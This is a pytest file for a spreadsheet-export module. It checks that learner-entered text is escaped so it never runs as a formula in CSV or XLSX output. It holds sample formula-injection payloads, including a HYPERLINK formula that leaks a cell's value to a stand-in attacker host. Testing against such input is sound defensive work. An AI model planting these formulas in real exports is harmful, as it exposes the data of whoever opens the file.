"""core.exports: text a learner typed never reaches a coordinator's spreadsheet as a formula."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from core.exports import safe_cell, safe_row, xlsx_append

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&D3,"Open")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("text", [*HOSTILE, "\tx", "\rx"])
def test_formula_like_text_gets_an_apostrophe_in_csv(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["สมชาย", "", "-", "--", 3, -3, 2.5, None, "a=b"])
def test_ordinary_cells_pass_unchanged(value):
    assert safe_cell(value) == value


def test_a_row_is_neutralised_cell_by_cell():
    assert safe_row(["=1", "ok", 4]) == ["'=1", "ok", 4]


def test_xlsx_cells_are_strings_never_formulas_and_keep_their_text():
    book = Workbook()
    xlsx_append(book.active, [*HOSTILE, "สมชาย", 7])
    out = io.BytesIO()
    book.save(out)
    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]
    assert [cell.data_type for cell in cells] == ["s"] * 5 + ["n"]
    assert [cell.value for cell in cells[:4]] == HOSTILE
    assert all(cell.quotePrefix for cell in cells[:4])
